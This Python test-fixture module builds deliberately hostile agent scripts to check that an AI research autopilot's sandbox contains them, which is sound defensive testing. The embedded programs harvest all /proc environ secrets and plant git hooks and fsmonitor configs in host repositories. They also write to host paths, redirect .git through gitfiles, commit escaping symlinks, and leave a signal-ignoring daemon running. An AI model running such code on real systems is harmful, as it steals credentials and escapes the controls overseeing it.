"""Hostile agent programs (run by the command agent in its sandbox) and the research repos that
configure them. Each reads the host paths it attacks from `T`, filled in by the test."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import git

from tests.integration.queue.conftest import make_repo

#: Shared by every hostile agent: helpers, then the legitimate proposal at the end.
PRELUDE = """
import glob, json, os, pathlib, shutil, signal, subprocess, sys, time
T = json.loads({targets!r})
files = pathlib.Path(os.environ["AUTOPILOT_PROPOSAL"]).parent
repo = pathlib.Path.cwd()
report = {{"write": {{}}, "exists": {{}}}}

def try_write(path, data):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "ab") as f:
            f.write(data.encode())
        os.chmod(path, 0o755)
        return "written"
    except OSError as exc:
        return f"{{type(exc).__name__}}: {{exc}}"

def hook(marker_name):
    # Writes a marker at the host path, and notes inside the sandbox that it ran.
    return (
        "#!/bin/sh\\n"
        f"echo \\"$0\\" >> {{T['markers']}}/{{marker_name}}-$(basename \\"$0\\") 2>/dev/null\\n"
        f"echo \\"$(basename \\"$0\\")\\" >> {{files}}/hooks-ran 2>/dev/null\\n"
        "exit 0\\n"
    )
"""

PROPOSE = """
(repo / "probe" / "tuning.py").write_text("TUNED = True\\n")
(files / "report.json").write_text(json.dumps(report, indent=1))
json.dump({"hypothesis": "a tuned probe sleeps the same", "experiment": "probe",
           "parameters": {"sleep_s": 0.05}, "what_changed": json.dumps(report["exists"]),
           "tokens": 1}, open(os.environ["AUTOPILOT_PROPOSAL"], "w"))
"""

#: Harvests every environ it can see into the repo, plants hooks (its clone's, the mirror's,
#: the forge's), writes at host paths, and leaves a detached daemon behind.
HOSTILE = """
loot = []
paths = [f"/proc/{os.getppid()}/environ", "/proc/1/environ", *sorted(glob.glob("/proc/*/environ"))]
for path in paths:
    try:
        data = open(path, "rb").read().replace(b"\\0", b"\\n").decode(errors="replace")
        loot.append(f"== {path}\\n{data}")
    except OSError as exc:
        loot.append(f"== {path}: {exc}")
(repo / "loot").mkdir(exist_ok=True)
(repo / "loot" / "environ.txt").write_text("\\n".join(loot))
(files / "environ.json").write_text(json.dumps(dict(os.environ)))
report["pids_seen"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())

# Looked for before any write: a write under /tmp makes its dirs in the sandbox's private /tmp
# (a checkout under /tmp, as CI's, would then seem to exist).
for path in T["exists_targets"]:
    report["exists"][path] = os.path.exists(path)
for name in ("post-commit", "pre-push", "reference-transaction", "post-checkout",
             "pre-commit", "prepare-commit-msg", "post-index-change", "pre-auto-gc"):
    report["write"]["clone:" + name] = try_write(str(repo / ".git" / "hooks" / name), hook("clone"))
for hooks_dir in T["foreign_hooks"]:
    for name in ("post-receive", "pre-receive", "update", "post-update", "reference-transaction"):
        report["write"][f"{hooks_dir}/{name}"] = try_write(f"{hooks_dir}/{name}", hook("foreign"))

for path in T["write_targets"]:
    report["write"][path] = try_write(path, T["payload"])

read, write = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(write, str(os.getpid()).encode())
        os.execv(sys.executable, [sys.executable, "-c",
            "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
            "signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(600)", T["daemon"]])
    os._exit(0)
os.wait()
daemon = int(os.read(read, 32))
deadline = time.monotonic() + 10
while T["daemon"] not in open(f"/proc/{daemon}/cmdline").read():
    assert time.monotonic() < deadline, "the daemon did not start"
    time.sleep(0.01)
report["daemon_alive_inside"] = True
"""

#: Replaces the clone's .git dir by a gitfile: to its own copy whose config runs an fsmonitor
#: and hooks that write host markers, or to the host's mirror by absolute path.
GITFILE = """
if T["gitdir"] == "evil":
    evil = files / "evil-gitdir"
    shutil.copytree(repo / ".git", evil)
    script = files / "fsmonitor.sh"
    script.write_text(hook("fsmonitor"))
    script.chmod(0o755)
    hooks = files / "evil-hooks"
    hooks.mkdir()
    for name in ("post-commit", "reference-transaction", "post-checkout", "post-index-change"):
        (hooks / name).write_text(hook("evil"))
        (hooks / name).chmod(0o755)
    with open(evil / "config", "a") as f:
        f.write(f"[core]\\n\\tfsmonitor = {script}\\n\\thooksPath = {hooks}\\n")
    target = evil
else:
    target = pathlib.Path(T["gitdir"])
shutil.rmtree(repo / ".git")
(repo / ".git").write_text(f"gitdir: {target}\\n")
"""

#: Commits an entry the control host must refuse.
PLANT = """
kind = T["plant"]
if kind == "pycache":
    (repo / "probe" / "__pycache__").mkdir()
    (repo / "probe" / "__pycache__" / "main.cpython-311.pyc").write_bytes(b"\\xa7\\r\\r\\n evil")
elif kind == "pyc":
    (repo / "evil.pyc").write_bytes(b"\\xa7\\r\\r\\n evil")
elif kind == "link":
    os.symlink(T["state"], repo / "link")
elif kind == "up":
    os.symlink("../../..", repo / "up")
"""


def program(body: str, targets: dict[str, Any]) -> str:
    return PRELUDE.format(targets=json.dumps(targets)) + body + PROPOSE


def hostile_repo(root: Path, name: str, source: str) -> Path:
    """The probe research repo with `source` as its command agent (`agent.py`)."""
    repo_dir = make_repo(root, name)
    config = repo_dir / "autopilot.toml"
    config.write_text(
        config.read_text()
        + f'\n[agent]\nkind = "command"\ncommand = ["{sys.executable}", "agent.py"]\n'
        "time_limit_s = 60\n"
    )
    (repo_dir / "agent.py").write_text(source)
    repo = git.Repo(repo_dir)
    repo.index.add(["autopilot.toml", "agent.py"])
    actor = git.Actor("t", "t@example.invalid")
    repo.index.commit("command agent", author=actor, committer=actor)
    return repo_dir
